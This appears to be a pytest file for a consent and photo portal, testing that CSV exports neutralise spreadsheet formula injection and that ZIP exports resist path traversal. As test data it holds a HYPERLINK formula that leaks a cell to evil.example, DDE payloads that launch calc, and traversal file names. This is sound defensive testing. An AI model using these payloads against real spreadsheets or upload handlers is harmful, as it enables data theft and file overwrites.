"""Hostile values in exports: CSV cells starting with = + - @ tab or CR (formula injection) and ZIP member names.

Every CSV cell a spreadsheet could run as a formula is neutralised with a leading apostrophe while the JSON next to
it keeps the exact value; no ZIP member can point outside the folder it is unpacked into, whatever file names
were uploaded.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date
from pathlib import Path, PurePosixPath

import pytest
from streamlit.testing.v1 import AppTest

from portal.backend.consent.records import Context, Decision
from portal.backend.consent.services import issue_receipt
from portal.backend.events.store import create_event
from portal.backend.people.services import export_subject, register_subject
from portal.backend.photos.assets import asset_detections
from portal.backend.photos.services import link_face, publish_photo
from portal.backend.platform.db.engine import Database
from portal.backend.platform.db.types import utcnow
from portal.backend.risk.figures import REASONS, WINDOWS
from portal.backend.staff.accounts import create_user
from tests.conftest import APP
from tests.factories import OPERATOR, make_portal, make_subject, record_consent
from tests.hostile import snapshot
from tests.hostile.conftest import Site, analysed_photo
from tests.hostile.test_images import small_jpeg
from tests.test_cli import cli

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    ("equals", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
    ("plus", "+1+cmd|' /C calc'!A0"),
    ("minus", "-2+3+cmd|' /C calc'!A0"),
    ("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab", "\t=1+1"),
    ("carriage-return", "\r=1+1"),
]


def csv_cells(text: str) -> list[list[str]]:
    """Rows of a CSV file as the csv module (and a spreadsheet) reads them."""
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula_cells(rows: list[list[str]]) -> None:
    """No cell of any row starts with a character that makes a spreadsheet evaluate it."""
    bad = [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
    assert bad == [], bad


def export(site: Site, subject_id: str) -> zipfile.ZipFile:
    """The subject's access export, checked to write only its audit row."""
    before = snapshot.take(site.db, site.blobs)
    data = export_subject(make_portal(site.db, site.blobs), actor=OPERATOR, subject_id=subject_id)
    snapshot.expect(before, site.db, site.blobs, rows={"audit_log": 1}, added=set())
    return zipfile.ZipFile(io.BytesIO(data))


@pytest.mark.parametrize("value", [f[1] for f in FORMULAS], ids=[f[0] for f in FORMULAS])
def test_formula_in_the_history_csv_is_neutralised_and_exact_in_json(site: Site, value: str) -> None:
    sid = make_subject(site.db, name="=SUM(A1:A9) Eve", choices={"internal": True})
    before = snapshot.take(site.db, site.blobs)
    record_consent(
        site.db, subject_id=sid, decisions=[Decision("website", "given")], context=Context(channel="staff", actor=value)
    )
    snapshot.expect(before, site.db, site.blobs, rows={"consent_ledger": 1, "consent_current": 1}, added=set())
    zf = export(site, sid)
    history = csv_cells(zf.read("history.csv").decode())
    header, rows = history[0], history[1:]
    actors = [row[header.index("actor")] for row in rows if row[header.index("purpose")] == "website"]
    assert actors == ["'" + value]
    for name in ("history.csv", "consents.csv"):
        assert_no_formula_cells(csv_cells(zf.read(name).decode()))
    entries = json.loads(zf.read("history.json"))
    assert [e["actor"] for e in entries if e["purpose_code"] == "website"] == [value]
    assert json.loads(zf.read("subject.json"))["display_name"] == "=SUM(A1:A9) Eve"


HOSTILE_UPLOAD_NAMES = [
    "../../../../tmp/evil.jpg",
    "/etc/cron.d/evil.jpg",
    "..\\..\\Windows\\evil.jpg",
    "C:\\evil.jpg",
    "=1+2.jpg",
]


def _safe_member(name: str) -> bool:
    """A ZIP member name that unpacks inside the target folder on any system."""
    path = PurePosixPath(name)
    return (
        not path.is_absolute()
        and ".." not in path.parts
        and "\\" not in name
        and ":" not in name
        and all(ch.isprintable() for ch in name)
    )


@pytest.mark.parametrize("filename", HOSTILE_UPLOAD_NAMES, ids=["traversal", "absolute", "windows", "drive", "formula"])
def test_zip_members_cannot_escape_whatever_was_uploaded(
    site: Site,
    detectors,
    filename: str,
    tmp_path: Path,  # type: ignore[no-untyped-def]
) -> None:
    portal = make_portal(site.db, site.blobs)
    paper = register_subject(
        portal,
        actor=OPERATOR,
        channel="paper",
        name="Eve Export",
        choices={"internal": True},
        signed_on=date.today(),
        scan=small_jpeg(),
    )
    assert paper.receipt_id is not None
    asset_id = analysed_photo(site, detectors, filename)
    with site.db.read() as conn:
        face = next(d for d in asset_detections(conn, asset_id) if d.kind == "face")
    link_face(portal, actor=OPERATOR, detection_id=face.id, subject_id=paper.subject.id)
    issue_receipt(portal, receipt_id=paper.receipt_id)  # downloaded once, so the export writes only its audit row
    zf = export(site, paper.subject.id)
    names = zf.namelist()
    assert all(_safe_member(n) for n in names), names
    assert f"photos/{asset_id}.jpg" in names
    assert any(n.startswith(f"paper/{paper.subject.id}/") for n in names)
    assert any(n.startswith(f"receipts/{paper.subject.id}/") for n in names)
    assert not any(Path(filename).name in n for n in names)  # the uploaded name is never a path in the archive
    target = tmp_path / "unpacked"
    zf.extractall(target)
    unpacked = [p.resolve() for p in target.rglob("*") if p.is_file()]
    assert len(unpacked) == len(names) and all(p.is_relative_to(target.resolve()) for p in unpacked)


def test_risk_report_csv_from_the_cli_has_no_formula_cells(site: Site, detectors, db_url: str) -> None:  # type: ignore[no-untyped-def]
    with site.db.write() as conn:
        event = create_event(conn, name="=cmd|' /C calc'!A0", place="@SUM(1)", purpose_codes=["website"], now=utcnow())
    asset_id = analysed_photo(site, detectors, "+1+1.jpg", event_id=event.id)
    publish_photo(
        make_portal(site.db, site.blobs),
        actor=OPERATOR,
        asset_id=asset_id,
        purpose="website",
        where="-1+1 https://evil.example",
        override_reason="critical on purpose (test)",
    )
    before = snapshot.take(site.db, site.blobs)
    out = cli(db_url, "risk", "report", "--format", "csv")
    assert out.returncode == 0, out.stderr
    rows = csv_cells(out.stdout)
    assert rows[0] == ["purpose", "with_people", "at_risk", "critical", *(f"expiring_{d}d" for d in WINDOWS), *REASONS]
    assert_no_formula_cells(rows)
    by_purpose = {r[0]: r[1:] for r in rows[1:]}
    assert all(cell.isdigit() for cells in by_purpose.values() for cell in cells)
    assert by_purpose["website"][:3] == ["1", "1", "1"]  # with people, at risk, critical: the published photo
    as_json = cli(db_url, "risk", "report", "--format", "json")
    assert as_json.returncode == 0, as_json.stderr
    assert {r["purpose"]: [str(r[h]) for h in rows[0][1:]] for r in json.loads(as_json.stdout)} == by_purpose
    snapshot.assert_unchanged(before, site.db, site.blobs)


# --- the dashboard's CSV downloads --------------------------------------------------------------------------------


@pytest.fixture
def media(monkeypatch: pytest.MonkeyPatch) -> list:
    """Every media file manager AppTest creates, so a download button's bytes can be read back (also the deferred
    ones, made only when clicked, which `_download` runs as the browser's click would)."""
    from streamlit.runtime.media_file_manager import MediaFileManager
    from streamlit.testing.v1 import app_test

    managers: list = []

    class Recording(MediaFileManager):
        def __init__(self, *args: object, **kwargs: object) -> None:
            super().__init__(*args, **kwargs)  # type: ignore[arg-type]
            managers.append(self)

    monkeypatch.setattr(app_test, "MediaFileManager", Recording)
    return managers


def _download(managers: list, name: str) -> str:
    """The text of the last download offered under this file name (a deferred one is made as a click makes it)."""
    for manager in managers:
        for file_id, entry in list(manager._deferred_callables.items()):
            if entry["filename"] == name:
                manager.execute_deferred(file_id)
    stores = [m._storage for m in managers]
    found = [f.content for s in stores for f in s._files_by_id.values() if f.filename == name]
    assert found, f"no download named {name}"
    return found[-1].decode()


def test_dashboard_csv_downloads_neutralise_formulas(
    db_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    detectors,
    media: list,  # type: ignore[no-untyped-def]
) -> None:
    from portal.backend.platform.blobs import LocalBlobStore
    from portal.backend.platform.db import migrate
    from tests.factories import make_org

    monkeypatch.setenv("PORTAL_DATABASE_URL", db_url)
    monkeypatch.setenv("PORTAL_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("PORTAL_DEMO_DATA", "false")
    monkeypatch.chdir(tmp_path)
    db = Database(db_url)
    try:
        migrate.upgrade(db)
        make_org(db)
        site = Site(db=db, blobs=LocalBlobStore(tmp_path / "data" / "blobs"))
        with db.write() as conn:
            create_user(
                conn,
                email="manager@example.com",
                display_name="Mia Manager",
                role="manager",
                password="manager-password",
                now=utcnow(),
            )
            event = create_event(conn, name="=cmd|' /C calc'!A0", purpose_codes=["website"], now=utcnow())
        asset_id = analysed_photo(site, detectors, "@SUM(1+1).jpg", event_id=event.id)
        publish_photo(
            make_portal(db, site.blobs),
            actor=OPERATOR,
            asset_id=asset_id,
            purpose="website",
            where="+1+cmd|' /C calc'!A0",
            override_reason="critical on purpose (test)",
        )
        at = AppTest.from_file(APP, default_timeout=60).run()
        at.text_input[0].input("manager@example.com")
        at.text_input[1].input("manager-password")
        at.button[0].click().run()
        at.switch_page("portal/pages/dashboard.py").run()
        assert not at.exception, [e.value for e in at.exception]
        # Only the open tab is drawn: choose each tab whose CSV is checked.
        at.session_state["dash_tab"] = "Critical"
        at.run()
        critical = csv_cells(_download(media, "critical.csv"))
        at.session_state["dash_tab"] = "Per event"
        at.run()
        per_event = csv_cells(_download(media, "risk-per-event.csv"))
        assert "@SUM(1+1).jpg" in {c.lstrip("'") for row in critical for c in row}
        assert_no_formula_cells(critical)
        assert_no_formula_cells(per_event)
    finally:
        db.dispose()
